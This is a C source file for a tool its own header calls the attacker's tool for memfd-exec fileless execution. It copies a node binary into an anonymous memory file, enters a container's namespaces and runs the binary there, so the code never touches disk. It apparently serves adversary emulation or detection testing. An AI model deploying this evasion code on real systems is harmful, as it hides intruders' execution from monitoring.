/*
 * memfd-exec: the attacker's tool for the memfd-exec technique. Runs a
 * program inside a running container from an anonymous memory file, so the
 * code never exists in any file system the container (or the node) has
 * mounted: T1620 Reflective Code Loading.
 *
 * 1. copies a program of the node (the attacker's payload carrier, here
 *    busybox) into a memfd (memfd_create(2)) while still in the node;
 * 2. enters the container's namespaces with setns(2) (ipc, uts, net, pid,
 *    mnt), the caller having joined its cgroups already, so the kernel sees a
 *    process of the container, as an interpreter in the image calling
 *    os.memfd_create would be;
 * 3. forks (a pid namespace applies to children) and the child runs the
 *    memfd with fexecve(3), which glibc implements as execveat(fd, "", argv,
 *    envp, AT_EMPTY_PATH) (sysdeps/unix/sysv/linux/fexecve.c).
 *
 * The parent waits and exits with the child's status.
 *
 * usage: memfd-exec <container pid> <program on the node> <argv0> [args...]
 * Build: gcc -static -O2 -o memfd-exec memfd-exec.c
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static const char *const NAMESPACES[] = {"ipc", "uts", "net", "pid", "mnt"};
#define NNS (sizeof NAMESPACES / sizeof NAMESPACES[0])

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: %s <container pid> <program on the node> <argv0> [args...]\n", argv[0]);
    return 2;
  }
  const char *pid = argv[1];
  int src = open(argv[2], O_RDONLY | O_CLOEXEC);
  if (src < 0) {
    perror(argv[2]);
    return 1;
  }
  struct stat st;
  if (fstat(src, &st) != 0) {
    perror("fstat");
    return 1;
  }
  int mem = memfd_create("payload", MFD_CLOEXEC);
  if (mem < 0) {
    perror("memfd_create");
    return 1;
  }
  for (off_t done = 0; done < st.st_size;) {
    ssize_t n = sendfile(mem, src, NULL, (size_t)(st.st_size - done));
    if (n <= 0) {
      perror("sendfile");
      return 1;
    }
    done += n;
  }
  close(src);

  int fds[NNS];
  for (size_t i = 0; i < NNS; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, NAMESPACES[i]);
    fds[i] = open(path, O_RDONLY | O_CLOEXEC);
    if (fds[i] < 0) {
      perror(path);
      return 1;
    }
  }
  for (size_t i = 0; i < NNS; i++) {
    if (setns(fds[i], 0) != 0) {
      fprintf(stderr, "setns %s: ", NAMESPACES[i]);
      perror(NULL);
      return 1;
    }
    close(fds[i]);
  }
  if (chdir("/") != 0) {
    perror("chdir /");
    return 1;
  }

  pid_t child = fork();
  if (child < 0) {
    perror("fork");
    return 1;
  }
  if (child == 0) {
    fexecve(mem, argv + 3, environ);
    perror("fexecve");
    _exit(127);
  }
  int status;
  if (waitpid(child, &status, 0) < 0) {
    perror("waitpid");
    return 1;
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}
